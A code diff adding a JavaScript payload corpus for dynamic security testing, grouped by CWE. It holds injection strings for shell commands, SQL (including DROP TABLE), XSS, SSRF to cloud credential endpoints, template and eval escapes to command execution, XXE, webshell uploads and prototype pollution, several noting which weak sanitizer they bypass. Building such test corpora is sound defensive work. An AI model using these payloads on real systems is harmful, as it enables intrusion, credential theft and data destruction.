@@ -0,0 +1,199 @@
+/**
+ * Bypass Corpus - Versioned DAST payloads, grouped by the CWE they probe
+ * Each payload notes the technique and, where one applies, the weak check
+ * in utils/sanitizers.js it slips past. `bench payloads` exports the corpus
+ * as wordlists or JSON; `bench replay` sends it to the routes the manifest
+ * maps to each CWE. Bump VERSION whenever a payload is added, removed or
+ * reordered: payload ids (`CWE-78/3`) are positions within a version.
+ */
+
+const VERSION = '1.0.0';
+
+// [payload, technique]; payloads are strings unless the weakness needs a JSON value
+const CORPUS = {
+    'CWE-78': {
+        name: 'OS command injection',
+        payloads: [
+            ['cat /etc/passwd', 'Direct command'],
+            ['`cat /etc/passwd`', 'Backticks (if ` is not filtered)'],
+            ['$(cat /etc/passwd)', 'Command substitution'],
+            ['\n cat /etc/passwd', 'Newline injection, not on the sanitizeCommand blacklist'],
+            ['cat${IFS}/etc/passwd', 'IFS instead of a space'],
+            ["cat$'\\x20'/etc/passwd", "$'' quoting"],
+            [';; id', 'Doubled separator: sanitizeCommand removes only the first of each character'],
+            ['|| id', 'Doubled pipe survives the single replace'],
+            ['&& id', 'Doubled ampersand survives the single replace'],
+            ['x\nid\n', 'Newline-separated second command'],
+            ['x%0aid', 'URL-encoded newline for routes that decode again'],
+            ['cat</etc/passwd', 'Input redirection, no space or separator needed'],
+            ['-o ProxyCommand=id', 'Option injection into an argument'],
+            ['--version', 'Long option handed to the binary']
+        ]
+    },
+    'CWE-22': {
+        name: 'Path traversal',
+        payloads: [
+            ['....//....//etc/passwd', 'Nested ../ that sanitizePath collapses into ../'],
+            ['..\\..\\etc\\passwd', 'Backslash separators'],
+            ['..%252f..%252fetc/passwd', 'Double URL encoding'],
+            ['/etc/passwd', 'Absolute path (if allowed)'],
+            ['..%00/etc/passwd', 'Encoded NUL byte'],
+            ['....\\\\....\\\\etc/passwd', 'Mixed nesting and backslashes'],
+            ['../../../../etc/passwd', 'Plain traversal'],
+            ['..%2f..%2f..%2fetc%2fpasswd', 'URL-encoded separators'],
+            ['%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'URL-encoded dots'],
+            ['..%c0%af..%c0%afetc/passwd', 'Overlong UTF-8 slash'],
+            ['../../../../proc/self/environ', 'Process environment'],
+            ['..\\..\\..\\windows\\win.ini', 'Windows traversal']
+        ]
+    },
+    'CWE-89': {
+        name: 'SQL injection',
+        payloads: [
+            ['1 OR 1=1', 'Numeric context, no quotes for sanitizeSQL to double'],
+            ['1 OR 1=1--', 'Numeric with comment'],
+            ["1' OR '1'='1", 'Quote-based'],
+            ['1 UNION SELECT null,null', 'Union injection'],
+            ['1; DROP TABLE users--', 'Stacked queries'],
+            ["' OR 1=1-- -", 'String context'],
+            ['1) OR (1=1', 'Closing a parenthesised list'],
+            ['1/**/OR/**/1=1', 'Comments instead of spaces'],
+            ["\\' OR 1=1-- -", 'Backslash escapes the doubled quote (MySQL)'],
+            ['1 OR 0x31=0x31', 'Hex literals, no quotes'],
+            ['1 AND SLEEP(5)', 'Time-based blind'],
+            ['name, password', 'Identifier injection into a column list'],
+            ['(SELECT password FROM users LIMIT 1)', 'Subquery in an identifier or value slot']
+        ]
+    },
+    'CWE-79': {
+        name: 'Cross-site scripting',
+        payloads: [
+            ['<img src=x onerror=alert(1)>', 'Event handler'],
+            ['<svg onload=alert(1)>', 'SVG'],
+            ['<body onpageshow=alert(1)>', 'Body event'],
+            ['<script>alert(1)</script', 'Unclosed tag'],
+            ['javascript:alert(1)', 'javascript: URL'],
+            ['<img src="x" onerror="alert(1)">', 'Quoted attributes'],
+            ['<img src=x onerror=alert(1)//', 'No closing >, so sanitizeHTML finds no complete tag'],
+            ['"><svg/onload=alert(1)>', 'Breaking out of a quoted attribute'],
+            ["'-alert(1)-'", 'Breaking out of a JavaScript string'],
+            ['</script><script>alert(1)</script>', 'Closing an inline script'],
+            ['<details open ontoggle=alert(1)>', 'Event without user interaction'],
+            ['<a href="javas&#x09;cript:alert(1)">x</a>', 'Entity-encoded tab inside the scheme'],
+            ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', 'srcdoc decodes entities']
+        ]
+    },
+    'CWE-918': {
+        name: 'Server-side request forgery',
+        payloads: [
+            ['http://127.0.0.1/', 'Localhost'],
+            ['http://2130706433/', 'Decimal IP'],
+            ['http://[::1]/', 'IPv6 localhost'],
+            ['http://localtest.me/', 'DNS name that resolves to 127.0.0.1'],
+            ['http://169.254.169.254/', 'AWS metadata'],
+            ['http://0/', 'Shorthand for 0.0.0.0'],
+            ['http://0x7f000001/', 'Hex IP'],
+            ['http://127.1/', 'Short IPv4 form'],
+            ['http://0177.0.0.1/', 'Octal IPv4'],
+            ['http://[::ffff:127.0.0.1]/', 'IPv4-mapped IPv6'],
+            ['http://172.31.255.255/', 'Private range isInternalIP does not list'],
+            ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'Cloud credentials'],
+            ['http://metadata.google.internal/computeMetadata/v1/', 'GCP metadata by name'],
+            ['http://user@127.0.0.1:6379/', 'Credentials and an internal port'],
+            ['gopher://127.0.0.1:6379/_INFO', 'Non-HTTP scheme'],
+            ['file:///etc/passwd', 'Local file scheme']
+        ]
+    },
+    'CWE-93': {
+        name: 'CRLF / header injection',
+        payloads: [
+            ['victim@example.com\r\nBcc: attacker@example.com', 'Extra mail header'],
+            ['victim@example.com\nCc: attacker@example.com', 'Bare LF'],
+            ['replay\r\nX-Injected: 1', 'Extra HTTP header'],
+            ['replay%0d%0aSet-Cookie: session=replay', 'URL-encoded CRLF'],
+            ['victim@example.com>, attacker@example.com', 'Second recipient in the address list']
+        ]
+    },
+    'CWE-117': {
+        name: 'Log injection',
+        payloads: [
+            ['replay\nINFO: admin logged in', 'Forged log line'],
+            ['replay\r\n[ERROR] forged entry', 'Forged entry with CRLF'],
+            ['replay%0aINFO: forged', 'URL-encoded newline'],
+            ['replay\u001b[2J\u001b[1;1H', 'ANSI escape clearing the terminal']
+        ]
+    },
+    'CWE-1336': {
+        name: 'Server-side template injection',
+        payloads: [
+            ['{{7*7}}', 'Handlebars / Nunjucks probe'],
+            ['${7*7}', 'Template literal probe'],
+            ['<%= 7*7 %>', 'EJS probe'],
+            ['#{7*7}', 'Pug probe'],
+            ["<%= process.mainModule.require('child_process').execSync('id') %>", 'EJS to command execution'],
+            ["{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", 'Nunjucks sandbox escape'],
+            ["#{global.process.mainModule.require('child_process').execSync('id')}", 'Pug to command execution'],
+            ['{{#with "s" as |string|}}{{string.constructor}}{{/with}}', 'Handlebars prototype access']
+        ]
+    },
+    'CWE-94': {
+        name: 'Code injection',
+        payloads: [
+            ["require('child_process').execSync('id')", 'Module loader in scope'],
+            ["this.constructor.constructor('return process')().version", 'Function constructor from any object'],
+            ["global.process.mainModule.require('fs').readFileSync('/etc/passwd')", 'File read through the main module']
+        ]
+    },
+    'CWE-95': {
+        name: 'Eval injection',
+        payloads: [
+            ["1; require('child_process').execSync('id')", 'Statement after an expression'],
+            ["');require('child_process').execSync('id');//", 'Breaking out of a string argument'],
+            ["process.env", 'Environment read']
+        ]
+    },
+    'CWE-943': {
+        name: 'NoSQL injection',
+        payloads: [
+            [{ $ne: 'replay' }, 'Not-equal operator matches every other document'],
+            [{ $gt: '' }, 'Greater-than the empty string'],
+            [{ $regex: '^adm' }, 'Regex on a field meant for equality'],
+            [{ $in: ['admin', 'root'] }, 'Set membership'],
+            [{ $where: "this.role == 'admin'" }, 'Server-side JavaScript']
+        ]
+    },
+    'CWE-611': {
+        name: 'XML external entities',
+        payloads: [
+            ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'External file entity'],
+            ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/">]><r>&x;</r>', 'External URL entity'],
+            ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1/evil.dtd">%p;]><r/>', 'Parameter entity with a remote DTD']
+        ]
+    },
+    'CWE-434': {
+        name: 'Unrestricted file upload',
+        payloads: [
+            ['shell.php', 'Server-side script'],
+            ['shell.php.png', 'Double extension'],
+            ['shell.png.php', 'Trailing script extension'],
+            ['shell.php%00.png', 'Encoded NUL before an allowed extension'],
+            ['shell.pHp5', 'Alternative script extension and case'],
+            ['.htaccess', 'Server configuration'],
+            ['../../shell.php', 'Traversal in the upload name']
+        ]
+    },
+    'CWE-1321': {
+        name: 'Prototype pollution',
+        // Parsed, because a __proto__ key in an object literal sets the prototype instead
+        payloads: [
+            [JSON.parse('{"__proto__":{"polluted":"replay"}}'), 'Top-level __proto__'],
+            [JSON.parse('{"constructor":{"prototype":{"polluted":"replay"}}}'), 'constructor.prototype, not checked by sanitizeJSON'],
+            [JSON.parse('{"nested":{"__proto__":{"polluted":"replay"}}}'), 'Nested __proto__ below the top level sanitizeJSON checks']
+        ]
+    }
+};
+
+module.exports = {
+    VERSION,
+    CORPUS
+};